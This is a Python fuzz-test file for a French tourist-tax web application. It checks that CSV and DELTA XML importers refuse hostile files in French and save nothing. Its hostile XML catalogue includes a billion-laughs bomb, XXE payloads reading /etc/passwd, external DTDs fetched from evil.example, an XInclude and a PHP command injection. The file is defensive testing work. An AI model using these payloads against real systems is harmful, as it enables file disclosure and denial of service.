"""Every file the product reads, fuzzed: the hosts' CSV, the registers and the platforms'
exports of stays, the platforms' statements, and the DGFiP's DELTA file — generated hostile bytes
(random bytes, other encodings, BOMs, huge lines, formulas, other separators, missing and extra
columns, many rows; XML bombs, external entities, truncated XML, a wrong root).

The parsers either return what they read or raise their package's refusal with a French
sentence, never another exception; the pages and the commands that take these files answer
without a 500 (or an "unexpected error" exit), in French, and a refused file saves nothing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from plateforme.errors import UserError
from tenants.declarations import sources
from tenants.hosts import importing as hosts_importing
from tenants.recovery import statements
from tenants.tax import delta
from tests.resilience.fuzzing import (
    FIXTURES,
    HOSTILE_TEXT,
    JULY,
    QUIET,
    build_world,
    business_state,
    changed_tables,
    check_answer,
    csrf_token,
    describe,
    follow,
    french,
    fuzz_settings,
    hostile_bytes,
    post_form,
    run_command,
    trace,
)
from tests.tenants.conftest import clock, utc_clock  # noqa: F401  (fixtures)

pytestmark = pytest.mark.filterwarnings(QUIET)

PARSER_EXAMPLES = 60
PAGE_EXAMPLES = 6
DELTA_FIXTURE = (FIXTURES / "delta_2026.xml").read_bytes()

# --- hostile CSV files -------------------------------------------------------------------------

PLAUSIBLE_CELLS = ("10/07/2026", "13/07/2026", "2026-07-10", "07/13/2026", "2", "0", "1",
                   "85,50", "120.00 €", "1 234,56", "12,50", "direct", "plateforme", "Airbnb",
                   "Booking.com", "ok", "Confirmée", "Reservation", "EUR", "M.", "Mme",
                   "Durand", "Paul", "3 chemin du Moulin", "07200", "Aubenas", "meuble",
                   "3 étoiles", "4", "oui", "paul@example.fr", "04 75 12 34 56", "SOR-0009",
                   "ENR-07019-000012", "01/01/2026", "30/06/2026", "48213377")
ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le")
HOST_COLUMNS = hosts_importing.REQUIRED_COLUMNS + hosts_importing.OPTIONAL_COLUMNS
STAY_COLUMNS = (sources.REGISTER_COLUMNS
                + tuple(n for names in sources.AIRBNB.values() for n in names)
                + tuple(n for names in sources.BOOKING.values() for n in names)
                + tuple(n for names in sources.TRANSACTIONS.values() for n in names)
                + ("statement descriptor", "reservation id", "gross booking amount"))
STATEMENT_COLUMNS = statements.COLUMNS + ("Période début", "PERIODE_FIN", "montant")

cells = st.one_of(st.sampled_from(PLAUSIBLE_CELLS), st.sampled_from(HOSTILE_TEXT),
                  st.text(max_size=20), st.from_regex(r"[0-9]{1,40}([.,][0-9]{1,40})?",
                                                      fullmatch=True))


def _line(values: list[str], separator: str, quote_all: bool) -> str:
    def cell(value: str) -> str:
        if quote_all or separator in value or '"' in value or "\n" in value:
            return '"' + value.replace('"', '""') + '"'
        return value

    return separator.join(cell(value) for value in values)


@st.composite
def csv_files(draw, columns: tuple[str, ...]) -> bytes:
    """A CSV as a spreadsheet, a platform or an attacker writes it: the expected header or a
    shuffled, partial or padded one; rows of any width; any separator, line ending, encoding,
    BOM; then perhaps damaged (cut short, bytes spliced in)."""
    header = draw(st.one_of(
        st.just(list(columns)), st.permutations(columns).map(list),
        st.lists(st.one_of(st.sampled_from(columns), st.sampled_from(HOSTILE_TEXT)),
                 max_size=len(columns) + 3)))
    width = len(header)
    rows = draw(st.lists(st.lists(cells, min_size=max(0, width - 2), max_size=width + 2),
                         max_size=5))
    separator = draw(st.sampled_from((";", ";", ",", "\t", "|")))
    ending = draw(st.sampled_from(("\n", "\r\n", "\r")))
    quote_all = draw(st.booleans())
    text = ending.join(_line(values, separator, quote_all) for values in [header, *rows])
    text += draw(st.sampled_from(("", ending, ending * 3)))
    encoding = draw(st.sampled_from(ENCODINGS))
    errors = "surrogatepass" if encoding.startswith("utf") else "replace"
    data = text.encode(encoding, errors)
    damage = draw(st.sampled_from(("none", "none", "none", "cut", "splice", "bom")))
    if damage == "cut" and data:
        data = data[:draw(st.integers(0, len(data) - 1))]
    elif damage == "splice":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(hostile_bytes) + data[at:]
    elif damage == "bom":
        data = draw(st.sampled_from((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"))) + data
    return data


EDGE_CELLS = ("99999999999999999999", "2147483648", "1e30", "Infinity", "NaN", "-1", "0",
              "999999999,99", "9999999999999", "0,001", "²", "１２", "31/02/2026",
              "29/02/2026", "00/00/0000", "01/07/0001", "31/12/9999", "2026-07-01",
              "07/32/2026", "1/7/26", "", " ", "x" * 300, "=1+1", "\x00")


@st.composite
def mutated(draw, text: str) -> bytes:
    """A real file with one cell replaced: every other value right, so that the hostile one
    reaches the checks behind the header's (and a file may even be accepted)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=_separator(text)))
    filled = [i for i, row in enumerate(rows) if i and row]
    if draw(st.integers(0, 7)):  # else, now and then, the file as it was
        row = rows[draw(st.sampled_from(filled))]
        row[draw(st.integers(0, len(row) - 1))] = draw(st.one_of(
            st.sampled_from(EDGE_CELLS), st.sampled_from(HOSTILE_TEXT), st.text(max_size=20)))
    out = io.StringIO()
    csv.writer(out, delimiter=_separator(text), lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


def _separator(text: str) -> str:
    first = text.lstrip("\ufeff").partition("\n")[0]
    return ";" if first.count(";") >= first.count(",") else ","


def any_file(columns: tuple[str, ...], *real: str):
    """Generated, random, or a real file with one cell changed."""
    return st.one_of(csv_files(columns), hostile_bytes, *(mutated(text) for text in real))


HOSTS_CSV = (
    "civilite;nom;prenom;adresse;code_postal;commune;email;telephone;compte_avant_2019;"
    "reference;hebergement_nom;hebergement_adresse;hebergement_code_postal;"
    "hebergement_commune;nature;classement;capacite;hebergement_reference\n"
    "M.;Nouveau;Noël;5 rue Neuve;07200;Aubenas;noel.nouveau@example.fr;04 75 00 00 01;non;N001;"
    "Gîte Neuf;5 rue Neuve;07200;Aubenas;meuble;2 étoiles;4;N001-G\n"
    "Mme;Nouvelle;Nina;6 rue Neuve;07200;Aubenas;;;non;N002;Studio Neuf;6 rue Neuve;07200;"
    "Aubenas;meuble;non classé;2;\n")
STAYS = FIXTURES / "stays"
REGISTER = (STAYS / "registre.csv").read_text()
AIRBNB = (STAYS / "airbnb_reservations_fr.csv").read_text(encoding="utf-8-sig")
BOOKING = (STAYS / "booking_reservations_en.csv").read_text()
STATEMENT = (FIXTURES / "platform_statements" / "airbnb_2026_s1.csv").read_text()


def refused_in_french(error: Exception) -> None:
    message = getattr(error, "message", None) or str(error)
    assert message and french(message), f"not French: {message!r}"


def many_rows(header: str, row: str, count: int) -> bytes:
    return (header + "\n" + (row + "\n") * count).encode()


# --- the parsers --------------------------------------------------------------------------------


@fuzz_settings(PARSER_EXAMPLES)
@given(any_file(HOST_COLUMNS, HOSTS_CSV))
@example(b"\xff\xfe")
@example(many_rows(";".join(HOST_COLUMNS), ";" * (len(HOST_COLUMNS) - 1) + "x",
                   hosts_importing.MAX_ROWS + 1))
def test_the_hosts_csv_reader_reads_or_refuses_in_french(data):
    """`flask hosts import` and the console's import read through it: rows or a UserError."""
    try:
        _header, rows = hosts_importing.read_rows(hosts_importing.decode(data)[0])
    except UserError as refusal:
        refused_in_french(refusal)
        return
    assert rows
    for line, row in rows:  # each row's check, as the import makes it before writing
        if "__extra__" not in row:
            row = {column: row.get(column, "") for column in HOST_COLUMNS}
        _checked, reasons = hosts_importing._check_row(line, row)
        assert all(french(reason) for reason in reasons), reasons


REGISTER_HEADER = ";".join(sources.REGISTER_COLUMNS)


@fuzz_settings(PARSER_EXAMPLES)
@given(any_file(STAY_COLUMNS, REGISTER, AIRBNB, BOOKING),
       st.one_of(st.none(), any_file(STAY_COLUMNS)))
@example(b"\xff\xfea", None)                                        # UTF-16 cut mid-character
@example(b"\xff\xfe" + "arrivee".encode("utf-16-le") + b"\x00\xd8", None)   # a lone surrogate
@example(f"{REGISTER_HEADER}\n01/07/2026;03/07/2026;2;0;0;0;{'9' * 40};direct;\n".encode(),
         None)                                                      # a price past Decimal's
@example(f"{REGISTER_HEADER}\n01/07/2026;03/07/2026;{'1' * 5000};0;0;0;;direct;\n".encode(),
         None)                                                      # past int()'s 4300 digits
@example(many_rows(REGISTER_HEADER, "01/07/2026;03/07/2026;2;0;0;0;;direct;",
                   sources.MAX_ROWS + 1), None)
@example((FIXTURES / "stays" / "airbnb_transactions_en.csv").read_bytes(), b"\x00")
def test_stays_files_are_read_or_refused_in_french(data, extra):
    """The register, Airbnb's and Booking.com's exports (with Airbnb's transactions): a
    `Parsed` whose every error and skipped line is French, or a SourceError."""
    try:
        parsed = sources.parse(data, extra)
    except sources.SourceError as refusal:
        refused_in_french(refusal)
        return
    for message in parsed.errors + parsed.skipped:
        assert french(message), message
    for row in parsed.rows:
        assert 0 < row.nights <= sources.MAX_NIGHTS
        assert row.price_per_night is None or row.price_per_night >= 0


STATEMENT_HEADER = ";".join(statements.COLUMNS)


@fuzz_settings(PARSER_EXAMPLES)
@given(any_file(STATEMENT_COLUMNS, STATEMENT))
@example(b"\xff\xfe\x00")
@example(f"{STATEMENT_HEADER}\nAirbnb;01/01/2026;30/06/2026;L1;1 rue;07200;Aubenas;;2;1;"
         f"{'9' * 200_000}\n".encode())                              # past csv's field limit
@example(many_rows(STATEMENT_HEADER, "Airbnb;01/01/2026;30/06/2026;L;1 rue;07200;A;;1;1;1",
                   statements.MAX_LINES + 1))
def test_platform_statements_are_read_or_refused_in_french(data):
    try:
        lines = statements.parse_statement(data)
    except statements.StatementError as refusal:
        refused_in_french(refusal)
        assert all(french(error) for error in refusal.errors), refusal.errors
        return
    assert lines


# --- hostile XML -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE delta [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
<!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]><delta><version>&i;</version></delta>"""
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE delta [<!ENTITY a "' + b"x" * 100_000
             + b'">]><delta><version>' + b"&a;" * 10_000 + b"</version></delta>")
EXTERNAL_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE delta [<!ENTITY x SYSTEM '
                   b'"file:///etc/passwd">]><delta><version>&x;</version></delta>')
EXTERNAL_DTD = (b'<?xml version="1.0"?><!DOCTYPE delta SYSTEM "http://evil.example/x.dtd">'
                b"<delta/>")
PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE delta [<!ENTITY % p SYSTEM '
                    b'"http://evil.example/p.dtd"> %p;]><delta/>')
XINCLUDE = (b'<delta xmlns:xi="http://www.w3.org/2001/XInclude"><version>2.5.0</version>'
            b'<xi:include href="file:///etc/passwd" parse="text"/></delta>')
HOSTILE_XML = (
    BILLION_LAUGHS, QUADRATIC, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, XINCLUDE,
    b"", b"<", b"<delta>", b"<delta/>", b"<autre><version>2.5.0</version></autre>",
    b'<?xml version="1.0" encoding="EBCDIC-XX"?><delta/>',  # LookupError, once
    b'<?xml version="1.0" encoding="shift_jis"?><delta/>',  # ValueError: multi-byte, once
    b'<?xml version="1.0" encoding="rot13"?><delta/>', b'<?xml version="1.0" encoding="idna"?>'
    b"<delta/>",
    b'<?xml version="1.0" encoding="UTF-16"?><delta/>',
    "<?xml version='1.0' encoding='UTF-16'?><delta/>".encode("utf-16"),
    b"\xef\xbb\xbf" + DELTA_FIXTURE, b"\x00" * 100, DELTA_FIXTURE.replace(b"2.5.0", b"3.0"),
    DELTA_FIXTURE.replace(b"<deliberations>", b'<deliberations a="' + b"x" * 5_000_000 + b'">'),
    b"<delta>" + b"<x>" * 50_000 + b"</x>" * 50_000 + b"</delta>",
    DELTA_FIXTURE.replace(b"01/01/2026", b"31/02/2026", 1),
    DELTA_FIXTURE.replace(b"<plancher>0.70</plancher>", b"<plancher>-1e400</plancher>", 1),
    DELTA_FIXTURE.replace(b"<delta>", b"<delta><?php system('id'); ?><![CDATA[<x>]]>", 1),
)
TEXT_RE = re.compile(rb">([^<>]{1,80})<")


@st.composite
def delta_files(draw) -> bytes:
    """The real file, cut short, or with one value or attribute replaced by a hostile one, or
    bytes spliced in; or a hostile document from the catalogue."""
    kind = draw(st.sampled_from(("cut", "value", "attribute", "splice", "catalogue")))
    if kind == "catalogue":
        return draw(st.sampled_from(HOSTILE_XML))
    if kind == "cut":
        return DELTA_FIXTURE[:draw(st.integers(0, len(DELTA_FIXTURE) - 1))]
    if kind == "splice":
        at = draw(st.integers(0, len(DELTA_FIXTURE)))
        return DELTA_FIXTURE[:at] + draw(hostile_bytes) + DELTA_FIXTURE[at:]
    hostile = draw(st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=30)))
    escaped = (hostile.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
               .encode("utf-8", "surrogatepass"))
    if kind == "value":
        found = list(TEXT_RE.finditer(DELTA_FIXTURE))
        match = found[draw(st.integers(0, len(found) - 1))]
        return DELTA_FIXTURE[:match.start(1)] + escaped + DELTA_FIXTURE[match.end(1):]
    found = list(re.finditer(rb'="([^"]*)"', DELTA_FIXTURE))
    match = found[draw(st.integers(0, len(found) - 1))]
    return DELTA_FIXTURE[:match.start(1)] + escaped + DELTA_FIXTURE[match.end(1):]


def delta_refuses(data: bytes) -> bool:
    try:
        read_delta(data)
    except delta.DeltaError:
        return True
    return False


def read_delta(data: bytes):
    """Read as the import reads: the header, then every deliberation."""
    file = delta.read(io.BytesIO(data))
    return file, list(file.deliberations)


@fuzz_settings(PARSER_EXAMPLES)
@given(delta_files())
def test_a_hostile_delta_file_is_refused_in_french(data):
    """defusedxml refuses DTDs and entities; a truncated or malformed file, a wrong root or a
    wrong value is one DeltaError in French; nothing else escapes."""
    try:
        read_delta(data)
    except delta.DeltaError as refusal:
        refused_in_french(refusal)


@pytest.mark.parametrize("data", [BILLION_LAUGHS, QUADRATIC, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                  PARAMETER_ENTITY],
                         ids=["billion-laughs", "quadratic", "external-entity", "external-dtd",
                              "parameter-entity"])
def test_xml_bombs_and_entities_are_refused_before_anything_is_expanded(data):
    with pytest.raises(delta.DeltaError, match="DTD ou entités"):
        read_delta(data)


def test_every_hostile_document_of_the_catalogue_is_read_or_refused_in_french():
    """The catalogue whole, not only what the fuzzing happens to draw from it."""
    for data in HOSTILE_XML:
        try:
            read_delta(data)
        except delta.DeltaError as refusal:
            refused_in_french(refusal)


# --- the pages and commands that take files ----------------------------------------------------


@pytest.fixture
def fuzz_world(app, utc_clock, clock):  # noqa: F811
    return build_world(app, utc_clock, clock)


def _upload(client, page: str, path: str, fields: dict, files: list):
    """A form posted with its page's CSRF token, as the browser that shows the page posts it."""
    token = csrf_token(client, page)
    return post_form(client, path, [("csrf_token", token), *fields.items()], files)


def _carried(html: str) -> dict:
    """The checked file's hidden fields, as the preview carries them to the confirmation."""
    return {name: value for name, value in re.findall(
        r'name="((?:extra_)?(?:content|signature))"[^>]*value="([^"]*)"', html)}


def imports(world):
    """Each page that takes a file: what it is, who posts, the page holding its form, where
    the file goes, the other fields, the files tried, and where the preview's confirmation goes
    (None: no preview)."""
    gite, moulin = world.ids["gite"], world.ids["moulin"]
    stays = any_file(STAY_COLUMNS, REGISTER, AIRBNB, BOOKING)
    return (
        ("console hosts import", world.admin, "/admin/hebergeurs/import",
         "/admin/hebergeurs/import", {"preview": "y"}, any_file(HOST_COLUMNS, HOSTS_CSV),
         "/admin/hebergeurs/import"),
        ("host stays import", world.host, f"/declarations/{gite}/{JULY}",
         f"/declarations/{gite}/{JULY}/import", {}, stays,
         f"/declarations/{gite}/{JULY}/import/confirmer"),
        ("console stays import", world.admin, f"/admin/declarations/{moulin}/{JULY}",
         f"/admin/declarations/{moulin}/{JULY}/import", {}, stays,
         f"/admin/declarations/{moulin}/{JULY}/import/confirmer"),
        ("platform statement", world.admin, "/admin/recouvrement/plateformes",
         "/admin/recouvrement/plateformes", {}, any_file(STATEMENT_COLUMNS, STATEMENT), None),
        ("DELTA import", world.admin, "/admin/deliberations/", "/admin/deliberations/import",
         {}, delta_files(), None),
    )


#: What every DELTA import, page or command, is sent at least once.
DELTA_EXAMPLES = (BILLION_LAUGHS, EXTERNAL_ENTITY, DELTA_FIXTURE[:5000],
                  b"<autre><version>2.5.0</version></autre>",
                  DELTA_FIXTURE.replace(b"<deliberations>",
                                        b'<deliberations a="' + b"x" * 5_000_000 + b'">'))


def with_examples(test, examples):
    for data in examples:
        test = example(data)(test)
    return test


def fuzz_upload(world, what, client, page, path, fields, files, confirm):
    """One import page's files, each checked: no 500, French, and nothing saved by a refusal
    (the DELTA file is loaded by a task, which keeps a line for a refused file: nothing else
    may change)."""
    limiter = world.app.extensions["taxesejour.limiter"]
    seen = world.outcomes.setdefault(what, [0, 0])  # refused, accepted

    def one_file(data):
        limiter.reset()
        before = business_state(world.tenant)
        response = _upload(client, page, path, fields, [("file", data, "fichier")])
        answer = check_answer(response, what)
        if response.status_code in (302, 303):
            answer = follow(client, response, what)
        carried = _carried(response.text) if response.status_code == 200 else {}
        if confirm and not answer.refused and carried:  # the preview's confirmation
            if confirm == path:
                carried["confirm"] = "y"
            done = _upload(client, page, confirm, carried, [])
            answer = check_answer(done, f"{what} (confirmation)")
            if done.status_code in (302, 303):
                answer = follow(client, done, f"{what} (confirmation)")
        seen[0 if answer.refused else 1] += 1
        if path.endswith("/deliberations/import"):
            if delta_refuses(data):
                changed = changed_tables(before, business_state(world.tenant))
                assert set(changed) <= {"tax_delta_imports"}, \
                    f"{what}: a refused file changed {changed}"
        elif answer.refused or "preview" in fields and not carried:
            changed = changed_tables(before, business_state(world.tenant))
            assert not changed, f"{what}: refused ({answer.messages[:2]}) but changed {changed}"

    examples = DELTA_EXAMPLES if path.endswith("/deliberations/import") else ()
    return fuzz_settings(PAGE_EXAMPLES)(given(files)(with_examples(one_file, examples)))


def test_hostile_files_uploaded_to_every_import_page_are_refused_in_french_and_save_nothing(
        fuzz_world):
    """The preview saves nothing, whatever the file; its confirmation imports all or nothing;
    every refusal is French; no page answers 500."""
    failures = []
    for what, *page in imports(fuzz_world):
        try:
            fuzz_upload(fuzz_world, what, *page)()
        except Exception as failure:  # noqa: BLE001 - every page's, not only the first one's
            failures.append(f"{what}: {describe(failure)}")
        trace(f"{what}: {fuzz_world.outcomes.get(what)} (refused, accepted)")
    assert not failures, "\n\n".join(failures)


def fuzz_command(world, command: tuple[str, ...], files, folder):
    """One import command's files: exit 0, or 1 with « Erreur : » and a French sentence, and
    then nothing saved."""
    def one_file(data):
        file = folder / "import.bin"
        file.write_bytes(data)
        before = business_state(world.tenant)
        result = run_command(world.app, *(str(file) if arg == "{file}" else arg
                                          for arg in command))
        output = result.output
        assert result.exit_code in (0, 1), f"{command}: exit {result.exit_code}\n{output}"
        assert "Traceback" not in output, output
        if result.exit_code == 1:
            message = output.split("Erreur :", 1)[-1]
            assert "Erreur :" in output and french(message), output[:2000]
            changed = changed_tables(before, business_state(world.tenant))
            assert not changed, f"{command}: refused but changed {changed}\n{output}"

    examples = DELTA_EXAMPLES if command[0] == "tax" else ()
    return fuzz_settings(PAGE_EXAMPLES)(given(files)(with_examples(one_file, examples)))


def test_hostile_files_given_to_the_import_commands_exit_in_french_and_save_nothing(
        fuzz_world, tmp_path):
    """`flask hosts import`, `flask declarations import` and `flask tax import-delta`: an exit
    status of 0 or 1 (a refusal, « Erreur : … »), never 2 (an unexpected error); nothing saved
    by a refusal."""
    commands = (
        (("hosts", "import", "vallee", "{file}"), any_file(HOST_COLUMNS, HOSTS_CSV)),
        (("declarations", "import", "vallee", "SOR-0002", JULY, "{file}"),
         any_file(STAY_COLUMNS, REGISTER)),
        (("tax", "import-delta", "{file}"), delta_files()),
    )
    failures = []
    for command, files in commands:
        try:
            fuzz_command(fuzz_world, command, files, tmp_path)()
        except Exception as failure:  # noqa: BLE001
            failures.append(f"flask {' '.join(command)}: {describe(failure)}")
    assert not failures, "\n\n".join(failures)
